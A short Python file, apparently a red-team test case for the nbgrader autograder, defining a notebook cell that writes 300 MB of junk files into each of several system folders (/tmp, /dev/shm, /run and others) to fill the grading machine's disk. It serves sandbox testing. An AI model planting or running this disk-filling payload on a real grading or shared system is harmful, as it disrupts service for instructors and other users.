"""Writes until the disk is full, wherever it may. Stock nbgrader: the instructor's disk."""

CELLS = {
    "extra first cell": """
import pathlib

block = b"x" * 10_000_000
for folder in (".", "/tmp", "/dev/shm", "/dev", "/var/cache/matplotlib", "/var/tmp", "/run"):
    try:
        for number in range(30):
            pathlib.Path(folder, f"redteam-was-here-{number}").write_bytes(block)
        print("STOLEN 300 MB in", folder)
    except OSError as error:
        print(folder, error)
"""
}
